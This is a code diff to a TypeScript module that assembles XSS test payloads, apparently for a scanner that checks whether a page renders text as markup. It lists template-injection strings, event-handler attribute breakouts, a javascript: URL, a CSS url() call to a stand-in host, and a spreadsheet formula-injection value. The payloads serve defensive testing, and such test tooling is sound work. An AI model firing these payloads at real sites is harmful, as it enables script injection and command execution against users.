@@ -17,8 +17,11 @@ const plain = ['{{xss()}}', '{{constructor.constructor("xss()")()}}', '${xss()}'
   '&lt;img data-xss src=x onerror=xss()&gt;', '&#60;img data-xss&#62;', '" onmouseover="xss()" data-xss="', '\' autofocus onfocus=xss() data-xss=\'', '__proto__', 'constructor', '<b data-xss>x</b>', '<s data-xss>',
   '<i data-xss>', '"><u data-xss>', '%3Cimg%20data-xss%3E', '*{background:url(//xss.invalid)}', 'color:red;background:url(//xss.invalid)', '|%{name}|<br/><i data-xss>', '=cmd|\' /C xss\'!A0', '<!--><img data-xss src=x>']
 
-/** All of them, in an order that gives a few of each kind first. */
-export const payloads: string[] = [...new Set([...plain, ...elements.flatMap((e, i) => breaks.map((b, j) => b + e.replaceAll('$', run[(i + j) % run.length]!).replaceAll('@', marked[(i * 3 + j) % marked.length]!)))])]
+/** One of each kind: what the short form takes must show a page that takes a text for markup. */
+const first = ['<b data-xss>x</b>', '<img data-xss src=x onerror="xss()">', '{{xss()}}', '" onmouseover="xss()" data-xss="', '"><u data-xss>', 'javascript:xss()']
+
+/** All of them. */
+export const payloads: string[] = [...new Set([...first, ...plain, ...elements.flatMap((e, i) => breaks.map((b, j) => b + e.replaceAll('$', run[(i + j) % run.length]!).replaceAll('@', marked[(i * 3 + j) % marked.length]!)))])]
 
 /** The n-th that is no longer than a field takes. */
 export function fitting(n: number, most: number): string {
